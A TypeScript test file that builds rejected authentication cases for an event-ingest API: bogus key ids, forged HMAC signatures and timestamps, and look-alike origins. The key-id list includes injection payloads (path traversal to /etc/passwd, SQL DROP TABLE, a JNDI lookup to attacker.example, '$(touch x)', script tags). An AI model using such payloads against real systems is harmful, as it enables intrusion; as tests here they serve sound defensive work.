import { createHmac } from 'node:crypto';
import type { BedAccess } from '../ingest-bed.ts';
import { pageView } from './event-json.ts';
import { eachOutcome, type HostileCase, refused } from './hostile-case.ts';

const body = JSON.stringify(pageView(2));
const accepted = ['accepted'] as const;

/** Ids that no key has, as texts that somebody might try. */
const noKeyIds: readonly string[] = [
  'pk_',
  'sk_',
  'pk_0123456789abcdef0123456789',
  'sk_0123456789abcdef0123456789',
  'pk_0123456789ABCDEF0123456789',
  'PK_0123456789abcdef0123456789',
  'pk_unknown',
  'unknown',
  'admin',
  'root',
  'null',
  'undefined',
  'NaN',
  '0',
  '*',
  '%',
  '.',
  '..',
  '../key',
  '../../etc/passwd',
  '..%2f..%2fkey',
  '/',
  '\\',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "' OR '1'='1",
  "'; DROP TABLE state; --",
  '{"$ne":null}',
  '[object Object]',
  `\${jndi:ldap://attacker.example/x}`,
  '$(touch x)',
  '<script>alert(1)</script>',
  'pk_ключ',
  'pk_鍵',
  'pk_🔑',
  'ｐk_0123456789abcdef0123456789',
  'pk_\u0000',
  'pk_\u202e',
  'pk_0123456789abcdef0123456789\n',
  'pk_0123456789abcdef0123456789\r\nx: y',
  'pk_0123456789abcdef0123456789,pk_0123456789abcdef0123456789',
  'pk_'.padEnd(64, '0'),
  'pk_'.padEnd(65, '0'),
  'pk_'.padEnd(1024, '0'),
  'pk_'.padEnd(10_240, '0'),
  'k'.repeat(10_240),
  'stream',
  'redirect',
  ' ',
];

const shown = (text: string) =>
  text.length > 70 ? `${JSON.stringify(text.slice(0, 12))}… (${text.length})` : JSON.stringify(text);

const unknownKeys = noKeyIds.flatMap((keyId) => [
  refused(`key id ${shown(keyId)} in the header`, { key: 'none', headers: { 'x-millrace-key': keyId }, body }, 401),
  refused(`key id ${shown(keyId)} in the query`, { key: 'none', query: `key=${encodeURIComponent(keyId)}`, body }, 401),
]);

const oddKeys = [
  refused('no key at all', { key: 'none', body }, 401),
  refused('an empty key in the header', { key: 'none', headers: { 'x-millrace-key': '' }, body }, 401),
  refused('an empty key in the query', { key: 'none', query: 'key=', body }, 401),
  refused('a revoked public key', { key: 'revoked', body }, 401),
  refused('a revoked secret key, signed', { key: 'revoked-secret', body }, 401),
  refused(
    'a secret key in the header, not signed',
    { key: 'none', headers: ({ secret }) => ({ 'x-millrace-key': secret.keyId }), body },
    401,
  ),
  refused(
    'a public key in capitals',
    { key: 'none', headers: ({ publicKey }) => ({ 'x-millrace-key': publicKey.toUpperCase() }), body },
    401,
  ),
  refused(
    'a public key cut off',
    { key: 'none', headers: ({ publicKey }) => ({ 'x-millrace-key': publicKey.slice(0, -1) }), body },
    401,
  ),
  refused(
    'a public key and one digit',
    { key: 'none', headers: ({ publicKey }) => ({ 'x-millrace-key': `${publicKey}0` }), body },
    401,
  ),
  refused(
    'a public key twice',
    { key: 'none', headers: ({ publicKey }) => ({ 'x-millrace-key': `${publicKey},${publicKey}` }), body },
    401,
  ),
  refused(
    'a public key with its last digit turned',
    {
      key: 'none',
      headers: ({ publicKey }) => ({
        'x-millrace-key': publicKey.slice(0, -1) + (publicKey.endsWith('0') ? '1' : '0'),
      }),
      body,
    },
    401,
  ),
  refused(
    "a public key's id as a secret key's, signed",
    { key: 'none', headers: ({ publicKey, signed }) => signed({ keyId: publicKey.replace('pk_', 'sk_'), body }), body },
    401,
  ),
  refused('a bearer token', { key: 'none', headers: { authorization: 'Bearer x' }, body }, 401),
  refused('basic authorization', { key: 'none', headers: { authorization: 'Basic dTpw' }, body }, 401),
  eachOutcome(
    'a public key in the query',
    { key: 'none', query: ({ publicKey }) => `key=${publicKey}`, body },
    accepted,
  ),
];

const now = Date.UTC(2026, 10, 21, 10, 20, 32);
const seconds = now / 1000;

type Forge = (access: BedAccess) => Readonly<Record<string, string>>;

/** A signed request with one header changed. */
const withHeader =
  (name: 'timestamp' | 'signature', change: (value: string, access: BedAccess) => string | undefined): Forge =>
  (access) => {
    const { [`x-millrace-${name}`]: value = '', ...others } = access.signed({ body });
    const changed = change(value, access);
    return changed === undefined ? others : { ...others, [`x-millrace-${name}`]: changed };
  };

/** A signature that is right for a timestamp text as it stands. */
const signedAt =
  (timestamp: string): Forge =>
  ({ secret }) => ({
    'x-millrace-key': secret.keyId,
    'x-millrace-timestamp': timestamp,
    'x-millrace-signature': `v1=${createHmac('sha256', secret.secret).update(`${timestamp}.${body}`).digest('hex')}`,
  });

const timestamps: Readonly<Record<string, string>> = {
  'in milliseconds': String(now),
  'in microseconds': String(now * 1000),
  'in nanoseconds': `${now}000000`,
  negative: `-${seconds}`,
  'minus zero': '-0',
  zero: '0',
  'with a fraction': `${seconds}.5`,
  'with an empty fraction': `${seconds}.0`,
  'in exponent notation': '1.795e9',
  hexadecimal: `0x${seconds.toString(16)}`,
  'with a plus': `+${seconds}`,
  'with a blank before it': ` ${seconds}`,
  'with a blank after it': `${seconds} `,
  'with a line end': `${seconds}\n`,
  'with a NUL': `${seconds}\u0000`,
  'in Arabic digits': '١٧٩٥٢٥٦٤٣٢',
  'in fullwidth digits': '１７９５２５６４３２',
  'as RFC 3339': '2026-11-21T10:20:32Z',
  'as an HTTP date': 'Sat, 21 Nov 2026 10:20:32 GMT',
  NaN: 'NaN',
  Infinity: 'Infinity',
  null: 'null',
  empty: '',
  'beyond what a double holds': '9'.repeat(400),
  'beyond what a date holds': '8640000000001',
  'twice, with a comma': `${seconds},${seconds}`,
  'five minutes and a second old': String(seconds - 301),
  'five minutes and a second ahead': String(seconds + 301),
  'an hour old': String(seconds - 3600),
  'a year ahead': String(seconds + 31_536_000),
  'of 1970': '1',
};

const signatures: Readonly<Record<string, (hex: string) => string>> = {
  empty: () => '',
  'without its version': (hex) => hex,
  'of version 0': (hex) => `v0=${hex}`,
  'of version 2': (hex) => `v2=${hex}`,
  'of a capital version': (hex) => `V1=${hex}`,
  'with a colon': (hex) => `v1:${hex}`,
  'with a blank': (hex) => `v1= ${hex}`,
  'in capitals': (hex) => `v1=${hex.toUpperCase()}`,
  'in base64': (hex) => `v1=${Buffer.from(hex, 'hex').toString('base64')}`,
  'a digit short': (hex) => `v1=${hex.slice(1)}`,
  'a digit long': (hex) => `v1=${hex}0`,
  'half of it': (hex) => `v1=${hex.slice(0, 32)}`,
  'ten kilobytes long': (hex) => `v1=${hex.repeat(160)}`,
  'its first digit turned': (hex) => `v1=${hex.startsWith('0') ? '1' : '0'}${hex.slice(1)}`,
  'its last digit turned': (hex) => `v1=${hex.slice(0, -1)}${hex.endsWith('0') ? '1' : '0'}`,
  reversed: (hex) => `v1=${[...hex].reverse().join('')}`,
  'all zeros': () => `v1=${'0'.repeat(64)}`,
  'no hexadecimal': () => `v1=${'g'.repeat(64)}`,
  'in fullwidth digits': () => `v1=${'０'.repeat(64)}`,
  'with a line end': (hex) => `v1=${hex}\n`,
  'with a NUL': (hex) => `v1=${hex}\u0000`,
  'twice, with a comma': (hex) => `v1=${hex},v1=${hex}`,
  'beside a wrong one': (hex) => `v1=${'0'.repeat(64)},v1=${hex}`,
  'a JSON object': () => '{"v1":true}',
  ['__proto__']: () => '__proto__',
};

const forged: Readonly<Record<string, Forge>> = {
  'without a timestamp': withHeader('timestamp', () => undefined),
  'without a signature': withHeader('signature', () => undefined),
  'for another body': ({ signed }) => signed({ body: `${body} ` }),
  'for no body': ({ signed }) => signed({ body: '' }),
  'with another secret': ({ signed }) => signed({ body, secret: 'f'.repeat(64) }),
  'with the empty secret': ({ signed }) => signed({ body, secret: '' }),
  "with the key's own id": ({ signed, secret }) => signed({ body, secret: secret.keyId }),
  'with the bytes that the secret spells': ({ secret }) => ({
    'x-millrace-key': secret.keyId,
    'x-millrace-timestamp': String(seconds),
    'x-millrace-signature': `v1=${createHmac('sha256', Buffer.from(secret.secret, 'hex')).update(`${seconds}.${body}`).digest('hex')}`,
  }),
  'over the body alone': ({ secret }) => ({
    'x-millrace-key': secret.keyId,
    'x-millrace-timestamp': String(seconds),
    'x-millrace-signature': `v1=${createHmac('sha256', secret.secret).update(body).digest('hex')}`,
  }),
  'with SHA-1': ({ secret }) => ({
    'x-millrace-key': secret.keyId,
    'x-millrace-timestamp': String(seconds),
    'x-millrace-signature': `v1=${createHmac('sha1', secret.secret).update(`${seconds}.${body}`).digest('hex').padEnd(64, '0')}`,
  }),
  'by another key': ({ signed, revokedSecret }) => ({
    ...signed({ body }),
    'x-millrace-key': revokedSecret.keyId,
  }),
};

const signing = [
  ...Object.entries(timestamps).map(([name, timestamp]) =>
    refused(`a timestamp ${name}`, { key: 'none', headers: signedAt(timestamp), body }, 401),
  ),
  ...[-300, -299, -1, 0, 1, 299, 300].map((offset) =>
    eachOutcome(
      `a timestamp ${offset} seconds from now`,
      { key: 'none', headers: signedAt(String(seconds + offset)), body },
      accepted,
    ),
  ),
  ...Object.entries(signatures).map(([name, change]) =>
    refused(
      `a signature, ${name}`,
      { key: 'none', headers: withHeader('signature', (value) => change(value.slice(3))), body },
      401,
    ),
  ),
  ...Object.entries(forged).map(([name, headers]) => refused(`signed ${name}`, { key: 'none', headers, body }, 401)),
];

/** Of the key's one origin, `https://shop.example`. */
const badOrigins = [
  'null',
  '',
  'https://shop.example/',
  'https://shop.example/path',
  'https://shop.example?x',
  'https://shop.example#x',
  'https://shop.example.',
  'https://SHOP.example',
  'HTTPS://shop.example',
  'https://shop.example:443',
  'https://shop.example:444',
  'https://shop.example:',
  'http://shop.example',
  'http://shop.example:443',
  'wss://shop.example',
  'ftp://shop.example',
  'file://',
  'chrome-extension://abcdefghijklmnopabcdefghijklmnop',
  'https://evil-shop.example',
  'https://evilshop.example',
  'https://shop.example.evil.example',
  'https://shop.exampleevil.example',
  'https://www.shop.example',
  'https://shop-example',
  'https://shopxexample',
  'https://shop.example@evil.example',
  'https://user@shop.example',
  'https://user:pass@shop.example',
  'https://shop.example%00.evil.example',
  'https://shop.example%2eevil.example',
  'https://shop.example\u0000',
  'https://shop.example\n',
  'https://shop.example\r\nx: y',
  'https://shop.example ',
  ' https://shop.example',
  'https://shop.example,https://shop.example',
  'https://shop.example https://evil.example',
  'https://shop.example, https://evil.example',
  'https://xn--shp-7na.example',
  'https://shöp.example',
  'https://ѕhop.example',
  'https://ｓhop.example',
  'https://shop。example',
  'https://sho\u200bp.example',
  'https://shop.exampl',
  'https://shop',
  'https://',
  'https:',
  'https:shop.example',
  '//shop.example',
  'shop.example',
  'https://127.0.0.1',
  'https://[::1]',
  'https://localhost',
  '*',
  'https://*',
  'https://*.example',
  '.*',
  'undefined',
  '__proto__',
  'javascript:alert(1)',
  'data:text/html,x',
  `https://${'a'.repeat(10_000)}.shop.example`,
];

const origins = [
  eachOutcome('no origin', { body }, accepted),
  eachOutcome('the origin of the key', { headers: { origin: 'https://shop.example' }, body }, accepted),
  ...badOrigins.flatMap((origin) => [
    refused(`origin ${shown(origin)}`, { headers: { origin }, body }, 403),
    refused(
      `origin ${shown(origin)}, for a key without origins`,
      { key: 'no-origins', headers: { origin }, body },
      403,
    ),
  ]),
  refused('the origin of another key', { key: 'no-origins', headers: { origin: 'https://shop.example' }, body }, 403),
];

/** Keys that are none, signatures that are forged, origins that only look alike. */
export const access: readonly HostileCase[] = [...unknownKeys, ...oddKeys, ...signing, ...origins];
